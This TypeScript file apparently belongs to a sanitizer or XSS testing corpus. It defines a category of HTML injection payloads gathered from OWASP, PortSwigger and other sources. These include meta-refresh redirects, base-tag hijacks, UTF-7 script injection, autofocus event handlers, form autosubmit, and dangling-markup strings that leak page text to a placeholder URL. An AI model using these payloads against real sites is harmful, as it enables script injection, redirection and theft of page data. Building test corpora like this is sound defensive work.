import { category } from './payload';
import { DANGLING, HTML5SEC, LXML, OWASP, own, PORTSWIGGER, WHATWG, WICG } from './sources';

/** What belongs in a head, and forms: they send readers and requests elsewhere. */
export const DOCUMENT_LEVEL = category('document-level', [
  [
    OWASP,
    {
      'refresh-url': '<meta http-equiv=refresh content="0;url={{URL}}">',
      'refresh-quoted': `<meta http-equiv="refresh" content="0; URL='{{URL}}'">`,
      'set-cookie': '<meta http-equiv="Set-Cookie" content="a=1;x={{CALL}}">',
      'link-header-meta': '<meta http-equiv="Link" content="<{{URL}}>; rel=stylesheet">',
      'base-address': '<base href="{{URL}}/"><img src="a.png">',
      'base-target': '<base target="_top" href="javascript:{{CALL}}//">',
      'content-type-utf7':
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-',
      'form-plain': '<form action="{{URL}}"><input name=q value=a><button>send</button></form>',
    },
  ],
  [
    HTML5SEC,
    {
      'refresh-upper': '<META HTTP-EQUIV="ReFresh" CONTENT="0;URL={{URL}}">',
      'policy-meta': `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri {{URL}}">`,
      'referrer-always': '<meta name=referrer content=unsafe-url><img src="{{URL}}">',
      'link-import': '<link rel=import href="{{URL}}">',
      'link-icon': '<link rel=icon href="{{URL}}">',
      'link-manifest': '<link rel=manifest href="{{URL}}">',
      'link-next': '<link rel="prev next" href="{{URL}}">',
      'link-pingback': '<link rel=pingback href="{{URL}}">',
      'form-outside-field': '<form id=f></form><button form=f formaction="javascript:{{CALL}}">send</button>',
      keygen: '<form action="{{URL}}"><keygen autofocus onfocus={{CALL}} name=k></form>',
      'isindex-action': '<isindex action="javascript:{{CALL}}" type=submit value=a>',
    },
  ],
  [
    LXML,
    {
      'formaction-button': '<button formaction="{{URL}}" formmethod=post>send</button>',
      'formaction-image': '<form><input type=image formaction="javascript:{{CALL}}" src="{{URL}}"></form>',
    },
  ],
  [
    DANGLING,
    {
      'dangling-image': `<img src='{{URL}}?text=`,
      'dangling-link': `<a href='{{URL}}?text=`,
      'dangling-base': `<base target='`,
      'dangling-textarea': '<form action="{{URL}}"><input type=submit><textarea name=t>',
      'dangling-option': '<form action="{{URL}}"><select name=s><option>',
      'dangling-style': `<style>@import '{{URL}}?text=`,
      'dangling-meta': `<meta name=referrer content='{{URL}}`,
      'dangling-button': '<form action="{{URL}}"><button name=b value="',
      'dangling-map': `<map name=m><area href='{{URL}}?`,
    },
  ],
  [
    PORTSWIGGER,
    {
      'hidden-accesskey': '<input type=hidden accesskey=x onclick={{CALL}}>',
      'link-accesskey': '<link rel=canonical accesskey=x onclick={{CALL}} href="{{URL}}">',
      'meta-popover':
        '<button popovertarget=x autofocus>a</button><meta id=x popover onbeforetoggle={{CALL}}>',
    },
  ],
  [
    own(WICG),
    {
      preload: '<link rel=preload as=image href="{{URL}}">',
      'preload-imagesrcset': '<link rel=preload as=image imagesrcset="{{URL}} 1x" imagesizes=1px>',
      prefetch: '<link rel=prefetch href="{{URL}}">',
      preconnect: '<link rel=preconnect href="{{URL}}"><link rel=dns-prefetch href="{{URL}}">',
      modulepreload: '<link rel=modulepreload href="{{URL}}">',
      prerender: '<link rel=prerender href="{{URL}}">',
      'expect-render': '<link rel=expect blocking=render href="#never">',
      'compression-dictionary': '<link rel=compression-dictionary href="{{URL}}">',
      'apple-icons': '<link rel=apple-touch-icon href="{{URL}}"><link rel=mask-icon href="{{URL}}">',
      'accept-ch':
        '<meta http-equiv=Accept-CH content="DPR, Width"><meta http-equiv=delegate-ch content="dpr {{URL}}">',
      'origin-trial': '<meta http-equiv=origin-trial content="{{CALL}}">',
      'default-style':
        '<meta http-equiv=default-style content=x><link rel=stylesheet title=x href="{{URL}}">',
      'color-scheme':
        '<meta name=color-scheme content="only dark"><meta name=theme-color content="url({{URL}})">',
    },
  ],
  [
    own(WHATWG),
    {
      'form-autosubmit': '<form action="{{URL}}"><input autofocus onfocus=this.form.submit()></form>',
      'form-dialog':
        '<dialog open><form method=dialog><button autofocus formmethod=get formaction="{{URL}}">a</button></form></dialog>',
      datalist:
        '<input list=l autofocus><datalist id=l><option value="{{CALL}}" onclick={{CALL}}></datalist>',
      'password-field':
        '<form action="{{URL}}"><input type=password name=p autocomplete=current-password></form>',
      'file-field': '<input type=file webkitdirectory capture onchange={{CALL}}>',
      'select-content':
        '<select><button><selectedcontent></selectedcontent></button><option><img src=x: onerror={{CALL}}></select>',
      'output-progress':
        '<output onclick={{CALL}}>a</output><progress onclick={{CALL}}></progress><meter onclick={{CALL}}></meter>',
      'fieldset-legend': '<fieldset form=x><legend><a href="javascript:{{CALL}}">a</a></legend></fieldset>',
    },
  ],
]);
